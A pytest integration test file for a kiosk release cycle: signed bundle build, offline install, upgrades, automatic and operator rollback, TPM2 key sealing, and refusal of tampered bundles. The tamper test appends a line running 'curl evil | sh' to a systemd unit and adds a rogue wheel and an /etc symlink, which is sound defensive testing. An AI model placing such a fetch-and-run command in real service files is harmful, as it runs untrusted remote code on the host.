"""The release cycle as an operator runs it, in a temporary root with a fake `systemctl`:
scripts/make-release.sh builds a signed bundle (the real wheel, every locked dependency); install-terminal.sh
installs it offline and the installed kiosk reaches READY; the installed wheel's tools work from another
directory with no checkout on the path; an upgrade; a crash-looping release and one that never gets READY are
rolled back by the installer itself; a bundle with a bad signature, a changed file, an extra file or a link is
refused; the operator's --rollback. Keys at rest: without a TPM2 the kiosk runs on plain key files, warned; with
one (a fake `systemd-creds`), --seal-credentials seals them and removes the plain files, and the kiosk runs on.

The upgrades use tiny stand-in wheels (same project name, another version) so the cycle stays fast; the first
install is the real release. Ordered: each test continues from the terminal the one before left."""

import json
import os
import shutil
import subprocess
import sys
import tarfile
import time
import zipfile
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
FAKE_SYSTEMCTL = Path(__file__).with_name("fake_systemctl.py")
FAKE_SYSTEMD_CREDS = Path(__file__).with_name("fake_systemd_creds.py")
README_CHECK = (
    '{"office": "441602", "business": "marriage", "date": "2026-11-26", "parties": [{"document": '
    '"resident_id", "id_number": "441621199005011218", "address": "广东省紫金县紫城镇永安路2号", "valid_until": '
    '"long_term"}, {"document": "resident_id", "id_number": "430104199308081225", "address": '
    '"湖南省长沙市岳麓区8号", "valid_until": "2030-01-01"}]}'
)

pytestmark = [pytest.mark.timeout(900), pytest.mark.slow]


def clean_env(**extra) -> dict[str, str]:
    """No checkout on the path: what runs is what the release installed."""
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "VIRTUAL_ENV", "PYTHONHOME")}
    env.update(
        SDL_VIDEODRIVER="offscreen",
        SDL_AUDIODRIVER="dummy",
        KIVY_NO_ARGS="1",
        KIVY_NO_CONSOLELOG="1",
        KIVY_NO_FILELOG="1",
    )
    env.update(extra)
    return env


def release_tool():
    import importlib.util

    spec = importlib.util.spec_from_file_location("release_tool", REPO / "scripts" / "release.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


class Terminal:
    """A temporary root with the fake systemd on PATH."""

    def __init__(self, base: Path):
        self.base = base
        self.root = base / "root"
        self.systemd = base / "systemd"
        self.bin = base / "bin"
        for d in (self.root, self.systemd, self.bin):
            d.mkdir(parents=True)
        systemctl = self.bin / "systemctl"
        systemctl.write_text(f"#!/bin/sh\nexec {sys.executable} {FAKE_SYSTEMCTL} \"$@\"\n")
        systemctl.chmod(0o755)
        creds = self.bin / "systemd-creds"
        creds.write_text(f"#!/bin/sh\nexec {sys.executable} {FAKE_SYSTEMD_CREDS} \"$@\"\n")
        creds.chmod(0o755)
        self.env = clean_env(
            PATH=f"{self.bin}:{os.environ['PATH']}",
            FAKE_TPM2="no",
            FAKE_SYSTEMD=str(self.systemd),
            FAKE_SYSTEMD_ROOT=str(self.root),
            KIVY_HOME=str(base / "kivy"),
            HOME=str(base),
        )
        self.prefix = self.root / "opt" / "heyuan-kiosk"

    def install(self, *args: str, timeout: float = 600) -> subprocess.CompletedProcess:
        return subprocess.run(
            [
                "bash",
                str(REPO / "scripts" / "install-terminal.sh"),
                "--root",
                str(self.root),
                "--python",
                sys.executable,
                "--settle",
                "2",
                *args,
            ],
            env=self.env,
            cwd=self.base,
            capture_output=True,
            text=True,
            timeout=timeout,
        )

    def systemctl(self, *args: str) -> str:
        return subprocess.run(
            [str(self.bin / "systemctl"), *args], env=self.env, capture_output=True, text=True, timeout=60
        ).stdout

    def state(self) -> dict[str, str]:
        out = self.systemctl("show", "kiosk.service", "-p", "ActiveState", "-p", "SubState", "-p", "NRestarts")
        return dict(line.split("=", 1) for line in out.splitlines())

    def current(self) -> str:
        return Path(os.readlink(self.prefix / "current")).name

    def stops(self) -> list[str]:
        path = self.systemd / "stops.log"
        return path.read_text().split() if path.exists() else []


def fake_wheel(out: Path, version: str, behaviour: str) -> Path:
    """A stand-in release: `kiosk` that gets READY and stops on SIGTERM ("ready"), exits at once ("crash") or
    never gets READY ("hang"); `kiosk-diag` that accepts any config."""
    name = f"heyuan_marriage_kiosk-{version}"
    code = f'''import os, signal, socket, sys, time
BEHAVIOUR = {behaviour!r}

def main():
    if BEHAVIOUR == "crash":
        sys.exit(1)
    signal.signal(signal.SIGTERM, lambda *a: sys.exit(0))
    if BEHAVIOUR == "ready" and os.environ.get("NOTIFY_SOCKET"):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        s.sendto(b"READY=1", os.environ["NOTIFY_SOCKET"])
    while True:
        time.sleep(0.2)

def diag():
    return 0
'''
    files = {
        "kiosk_stand_in.py": code,
        f"{name}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: heyuan-marriage-kiosk\nVersion: {version}\n",
        f"{name}.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{name}.dist-info/entry_points.txt": "[console_scripts]\nkiosk = kiosk_stand_in:main\nkiosk-diag = kiosk_stand_in:diag\n",
    }
    files[f"{name}.dist-info/RECORD"] = "".join(f"{n},,\n" for n in files) + f"{name}.dist-info/RECORD,,\n"
    wheel = out / f"{name}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as z:
        for n, text in files.items():
            z.writestr(n, text)
    return wheel


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    d = tmp_path_factory.mktemp("keys")
    tool = release_tool()
    good = tool.keygen(d / "good")
    other = tool.keygen(d / "other")
    return {"key": good[0], "pub": good[1], "other_key": other[0]}


@pytest.fixture(scope="module")
def bundle(keys, tmp_path_factory):
    """The real release, built by the operator's command."""
    out = tmp_path_factory.mktemp("dist")
    r = subprocess.run(
        ["bash", str(REPO / "scripts" / "make-release.sh"), "--key", str(keys["key"]), "--out", str(out)],
        env={**clean_env(), "PYTHON": sys.executable},
        capture_output=True,
        text=True,
        timeout=600,
        cwd=REPO,
    )
    assert r.returncode == 0, r.stdout + r.stderr
    root = Path(r.stdout.split()[-2])
    return root


@pytest.fixture(scope="module")
def terminal(tmp_path_factory):
    t = Terminal(tmp_path_factory.mktemp("terminal"))
    # The terminal's own config, written before the first install (the installer keeps it): simulated devices,
    # an office server that is not there (the kiosk starts offline), no metrics port.
    from kiosk.config import DEFAULT_CONFIG

    conf = t.root / "etc" / "heyuan-kiosk"
    conf.mkdir(parents=True)
    text = DEFAULT_CONFIG.read_text(encoding="utf-8")
    for old, new in (
        ('state_dir = "$HOME/.local/state/heyuan-kiosk"', f'state_dir = "{t.root}/var/lib/heyuan-kiosk"'),
        ('url = "http://127.0.0.1:8765"', 'url = "http://127.0.0.1:9"'),
        ("start_bundled = true", "start_bundled = false"),
        ('metrics_bind = "127.0.0.1:9108"', 'metrics_bind = "127.0.0.1:0"'),
    ):
        assert old in text
        text = text.replace(old, new)
    (conf / "kiosk.toml").write_text(text, encoding="utf-8")
    yield t
    t.systemctl("stop", "kiosk.service")


def small_lock(base: Path) -> Path:
    """Stand-in releases depend on one small locked wheel, so their install takes seconds."""
    line = next(l for l in (REPO / "requirements.lock").read_text().splitlines() if l.startswith("pyserial=="))
    lock = base / "small.lock"
    lock.write_text(line + "\n")
    return lock


def stand_in_bundle(keys, base: Path, version: str, behaviour: str, key: str = "key") -> Path:
    tool = release_tool()
    out = base / f"dist-{version}"
    out.mkdir()
    return tool.bundle(
        fake_wheel(out, version, behaviour), keys[key], out, tool.default_cache(), lock_file=small_lock(out)
    )


def test_bundle_holds_the_full_lock_and_a_valid_signature(bundle, keys):
    manifest = (bundle / "MANIFEST").read_text()
    assert manifest.startswith("# heyuan-kiosk release manifest 1\n# version 0.1.0\n")
    locked = [l for l in (bundle / "requirements.lock").read_text().splitlines() if "--hash=sha256:" in l]
    assert len(list((bundle / "wheelhouse").glob("*.whl"))) == len(locked) > 30  # indirect dependencies too
    for name in ("kiosk.service", "99-heyuan-kiosk.rules", "kiosk.production.toml", "pam.d-heyuan-kiosk"):
        assert f"  deploy/{name}\n" in manifest
    assert (bundle.parent / f"{bundle.name}.tar").is_file()
    r = subprocess.run(
        [
            "openssl",
            "pkeyutl",
            "-verify",
            "-pubin",
            "-inkey",
            str(keys["pub"]),
            "-rawin",
            "-in",
            str(bundle / "MANIFEST"),
            "-sigfile",
            str(bundle / "MANIFEST.sig"),
        ],
        capture_output=True,
        text=True,
    )
    assert r.returncode == 0, r.stdout + r.stderr


def test_first_install_from_the_tar_reaches_ready(bundle, keys, terminal):
    r = terminal.install(
        "--trust", str(keys["pub"]), "--ready-timeout", "240", str(bundle.parent / f"{bundle.name}.tar")
    )
    assert r.returncode == 0, r.stdout + r.stderr + (terminal.systemd / "kiosk.log").read_text()[-3000:]
    assert terminal.current() == "0.1.0"
    assert terminal.state()["ActiveState"] == "active"
    unit = (terminal.root / "etc/systemd/system/kiosk.service").read_text()
    assert f"{terminal.prefix}/current/venv/bin/kiosk --config {terminal.root}/etc/heyuan-kiosk/kiosk.toml" in unit
    assert (terminal.root / "etc/udev/rules.d/99-heyuan-kiosk.rules").is_file()
    # No TPM2 here: the installer says the keys stay in plain files, and the kiosk runs on them and says so too.
    assert "WARNING: no usable TPM2" in r.stderr and "PLAIN FILES" in r.stderr
    store = terminal.root / "etc/credstore.encrypted"
    assert f"LoadCredentialEncrypted=journal.key:{store}/heyuan-kiosk.journal.key" in unit
    assert "SetCredential=journal.key:unsealed" in unit and not store.exists()
    assert (terminal.systemd / "credentials" / "journal.key").read_text() == "unsealed"
    state = terminal.root / "var/lib/heyuan-kiosk"
    log = terminal.systemd / "kiosk.log"
    deadline = time.monotonic() + 120
    while not ((state / "journal.key").exists() and "secrets_in_plain_files" in log.read_text(errors="replace")):
        assert time.monotonic() < deadline, log.read_text(errors="replace")[-2000:]
        time.sleep(0.5)


def test_the_keys_are_sealed_to_a_tpm2_and_the_journal_stays_readable(terminal, monkeypatch):
    from cryptography.fernet import Fernet

    from kiosk.services.journal import Journal

    state = terminal.root / "var/lib/heyuan-kiosk"
    plain_key = (state / "journal.key").read_bytes()
    body = {"appointment_id": "AP1", "kiosk_id": "k1", "parties": [{"id_number": "441621199001011234"}]}
    journal = Journal.open(state)  # as the running kiosk has it: the plain key
    waiting = journal.append("checkin", "441621", "/v1/offices/441621/checkins", body, detached=True)
    journal.close()
    tls = terminal.root / "etc/heyuan-kiosk/tls"
    tls.mkdir(parents=True)
    (tls / "kiosk.key").write_text("-----BEGIN PRIVATE KEY-----\nstand-in\n-----END PRIVATE KEY-----\n")
    terminal.env["FAKE_TPM2"] = "yes"  # the technician enabled the TPM in the firmware
    r = terminal.install("--seal-credentials", "--ready-timeout", "240")
    assert r.returncode == 0, r.stdout + r.stderr + (terminal.systemd / "kiosk.log").read_text()[-3000:]
    assert terminal.state()["ActiveState"] == "active"
    assert not (state / "journal.key").exists() and not (tls / "kiosk.key").exists()  # no plain copy left
    store = terminal.root / "etc/credstore.encrypted"
    for name in ("journal.key", "kiosk.key"):
        sealed = (store / f"heyuan-kiosk.{name}").read_bytes()
        assert plain_key not in sealed and b"PRIVATE KEY" not in sealed
        assert (store / f"heyuan-kiosk.{name}").stat().st_mode & 0o077 == 0
    calls = (terminal.systemd / "creds.log").read_text()
    assert "encrypt --with-key=tpm2 --tpm2-pcrs= --name=journal.key" in calls
    # The kiosk started with the keys from its credentials directory, and made no plain key again.
    handed = terminal.systemd / "credentials"
    assert (handed / "journal.key").read_bytes().strip() == plain_key.strip()
    assert b"stand-in" in (handed / "kiosk.key").read_bytes()
    assert not (state / "journal.key").exists()
    # What waited in the journal is still readable, with the sealed key only.
    monkeypatch.setenv("CREDENTIALS_DIRECTORY", str(handed))
    journal = Journal.open(state)
    assert journal.key_sealed and journal.get(waiting.key).body == body
    journal.close()
    Fernet(plain_key.strip())  # (the key itself is unchanged: the journal was not re-encrypted)


def test_the_installed_wheel_works_from_another_directory(terminal, tmp_path):
    bin_dir = terminal.prefix / "releases" / "0.1.0" / "venv" / "bin"
    env = clean_env(HOME=str(tmp_path), KIVY_HOME=str(tmp_path / "kivy"))

    def run(*args, stdin=None, timeout=300):
        r = subprocess.run(
            [str(bin_dir / "kiosk-diag"), *args],
            input=stdin,
            cwd=tmp_path,
            env=env,
            capture_output=True,
            text=True,
            timeout=timeout,
        )
        assert r.returncode == 0, f"{args}: {r.stdout[-1500:]} {r.stderr[-1500:]}"
        return r.stdout

    where = subprocess.run(
        [str(bin_dir / "python"), "-c", "import kiosk, sys; print(kiosk.__file__)"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
    ).stdout
    assert where.startswith(str(terminal.prefix)), where
    decision = json.loads(run("check", stdin=README_CHECK))
    assert (decision["decision"], decision["reasons"], decision["offices"]) == ("accept", ["any_office"], ["441602"])
    run(
        "ticket",
        "--number",
        "A012",
        "--business",
        "marriage",
        "--office",
        "441621",
        "--out",
        str(tmp_path / "t.bin"),
        "--png",
        str(tmp_path / "t.png"),
    )
    assert (tmp_path / "t.bin").stat().st_size > 500 and (tmp_path / "t.png").stat().st_size > 1000
    # a few screens (every one takes minutes on a busy 2-core machine; tests/ui renders them all): the fonts,
    # the catalogs, the .kv files and the demo's sample photos all come from the installed package
    run("screens", "--out", str(tmp_path / "screens"), "--lang", "zh,en", "--only", "attract,confirm_photos")
    assert len(list((tmp_path / "screens").glob("*.png"))) == 4
    journey = json.loads(run("journey", "booked-couple", "--json"))
    assert journey["ok"], journey


def test_upgrade_to_a_good_release(keys, terminal, tmp_path):
    r = terminal.install("--ready-timeout", "60", str(stand_in_bundle(keys, tmp_path, "0.1.1", "ready")))
    assert r.returncode == 0, r.stdout + r.stderr
    assert terminal.current() == "0.1.1"
    assert Path(os.readlink(terminal.prefix / "previous")).name == "0.1.0"
    assert terminal.stops()[-1] == "0"  # the real kiosk stopped cleanly on SIGTERM


def test_a_crash_looping_release_is_rolled_back(keys, terminal, tmp_path):
    r = terminal.install("--ready-timeout", "60", str(stand_in_bundle(keys, tmp_path, "0.1.2", "crash")))
    assert r.returncode == 4, r.stdout + r.stderr
    assert "crash loop" in r.stderr and "rolled back" in r.stderr
    assert terminal.current() == "0.1.1"
    assert terminal.state()["ActiveState"] == "active"
    assert (terminal.prefix / "releases" / "0.1.2" / ".failed").exists()


def test_a_release_that_never_gets_ready_is_rolled_back(keys, terminal, tmp_path):
    r = terminal.install("--ready-timeout", "4", str(stand_in_bundle(keys, tmp_path, "0.1.3", "hang")))
    assert r.returncode == 4, r.stdout + r.stderr
    assert "no READY within 4s" in r.stderr
    assert terminal.current() == "0.1.1" and terminal.state()["ActiveState"] == "active"


def test_bad_signature_changed_or_extra_files_are_refused(keys, terminal, tmp_path):
    other = stand_in_bundle(keys, tmp_path, "0.1.4", "ready", key="other_key")
    r = terminal.install(str(other))
    assert r.returncode == 3 and "signature" in r.stderr, r.stdout + r.stderr
    good = stand_in_bundle(keys, tmp_path, "0.1.5", "ready")
    changed = tmp_path / "changed"
    shutil.copytree(good, changed)
    with open(changed / "deploy" / "kiosk.service", "a") as f:
        f.write("ExecStartPre=/bin/sh -c 'curl evil | sh'\n")
    r = terminal.install(str(changed))
    assert r.returncode == 3 and "digest" in r.stderr, r.stdout + r.stderr
    extra = tmp_path / "extra"
    shutil.copytree(good, extra)
    shutil.copy(next((good / "wheelhouse").glob("*.whl")), extra / "wheelhouse" / "evil-1.0-py3-none-any.whl")
    r = terminal.install(str(extra))
    assert r.returncode == 3 and "does not list" in r.stderr, r.stdout + r.stderr
    linked = tmp_path / "linked"
    shutil.copytree(good, linked / good.name)
    (linked / good.name / "wheelhouse" / "etc").symlink_to("/etc")
    with tarfile.open(tmp_path / "linked.tar", "w") as tar:
        tar.add(linked / good.name, arcname=good.name)
    r = terminal.install(str(tmp_path / "linked.tar"))
    assert r.returncode == 3 and "links" in r.stderr, r.stdout + r.stderr
    assert not (terminal.prefix / "releases" / "0.1.4").exists()
    assert not (terminal.prefix / "releases" / "0.1.5").exists()
    assert terminal.current() == "0.1.1" and terminal.state()["ActiveState"] == "active"


def test_operator_rollback_goes_back_to_the_previous_release(keys, terminal, tmp_path):
    r = terminal.install("--ready-timeout", "60", str(stand_in_bundle(keys, tmp_path, "0.1.6", "ready")))
    assert r.returncode == 0, r.stdout + r.stderr
    r = terminal.install("--ready-timeout", "60", "--rollback")
    assert r.returncode == 0, r.stdout + r.stderr
    assert terminal.current() == "0.1.1" and terminal.state()["ActiveState"] == "active"
    assert Path(os.readlink(terminal.prefix / "previous")).name == "0.1.6"
